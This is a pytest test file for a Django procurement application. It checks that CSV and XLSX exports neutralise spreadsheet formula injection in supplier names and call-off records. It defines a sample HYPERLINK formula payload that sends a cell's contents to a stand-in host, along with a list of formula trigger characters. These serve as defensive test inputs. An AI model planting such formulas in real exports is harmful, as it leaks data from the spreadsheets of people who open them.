"""No export carries a live formula (issue 15, item 5: CSV/formula injection).

Every CSV and XLSX goes through ``sparring/exports.py``; a text cell that begins
with ``= + - @``, a tab or a carriage return gets a leading apostrophe, so that
Excel and LibreOffice show it as text. Real numbers stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from procurement.models import CallOff, Supplier
from sparring import exports
from sparring.cases import services
from tests.conftest import make_consultant
from tests.unit.procurement.test_calloff import approved_case
from tests.unit.procurement.test_procurement_reports import delivered_case

EVIL = '=HYPERLINK("http://x.example/?d="&A1,"…")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(response) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(response.content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _assert_no_formula_in_csv(response):
    cells = _csv_cells(response)
    assert "'" + EVIL in cells, "the supplier's name is in the file, neutralised"
    for cell in cells:
        assert not (cell.startswith(TRIGGERS) and not exports._PLAIN_NUMBER.match(cell)), cell


def _assert_no_formula_in_xlsx(response):
    cells = _xlsx_cells(response)
    assert "'" + EVIL in [c.value for c in cells]
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(TRIGGERS) or exports._PLAIN_NUMBER.match(cell.value)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+358 40 123", "'+358 40 123"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("-0,5", "-0,5"),  # a number written as text stays a number
        ("+3", "+3"),
        ("Oy = Ab", "Oy = Ab"),  # only the first character counts
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise(value, written):
    assert exports.neutralise(value) == written


def test_negative_numbers_stay_numbers_in_both_formats():
    csv_cells = _csv_cells(exports.csv_response("x", [[Decimal("-12.50"), -3, EVIL]]))
    assert csv_cells == ["-12,50", "-3", "'" + EVIL]
    xlsx = exports.xlsx_response("x", [("s", [["h"], [Decimal("-12.50"), -3, EVIL]], 1)])
    values = [c.value for c in _xlsx_cells(xlsx)]
    assert values == ["h", -12.5, -3, "'" + EVIL]


@pytest.fixture
def evil_supplier(supplier):
    Supplier.objects.filter(pk=supplier.pk).update(name=EVIL, name_sv=EVIL)
    supplier.refresh_from_db()
    return supplier


@pytest.mark.django_db(transaction=True)
def test_the_invoicing_basis_and_the_statistics_neutralise_a_supplier_name(
    applicant, coordinator, steering, open_call, agreement, evil_supplier, client_for
):
    kalle = make_consultant("kalle.k", evil_supplier)
    delivered_case(applicant, coordinator, open_call, kalle, held=1)
    month = timezone.localdate().strftime("%Y-%m")
    client = client_for(coordinator)
    url = f"/procurement/invoicing/?month={month}&format="
    _assert_no_formula_in_csv(client.get(url + "csv"))
    _assert_no_formula_in_xlsx(client.get(url + "xlsx"))

    steering_client = client_for(steering)
    _assert_no_formula_in_csv(steering_client.get("/statistics/", {"format": "csv"}))
    _assert_no_formula_in_xlsx(steering_client.get("/statistics/", {"format": "xlsx"}))


@pytest.mark.django_db(transaction=True)
def test_the_call_off_record_neutralises_a_supplier_name(
    applicant, coordinator, open_call, agreement, evil_supplier, client_for
):
    make_consultant("aino.a", evil_supplier)
    case = approved_case(applicant, coordinator, open_call)
    services.case_call_off(actor=coordinator, case=case, version=case.version)
    record = CallOff.objects.get()
    CallOff.objects.filter(pk=record.pk).update(
        tenders=[
            {
                "rank": 1,
                "supplier": EVIL,
                "consultant_name": "@Aino",
                "day_price": "1090.50",
                "total": -1.5,
            }
        ]
    )
    response = client_for(coordinator).get(f"/cases/{case.pk}/call-offs/{record.pk}.csv")
    _assert_no_formula_in_csv(response)
    cells = _csv_cells(response)
    assert "'@Aino" in cells and "1090,50" in cells and "-1,5" in cells
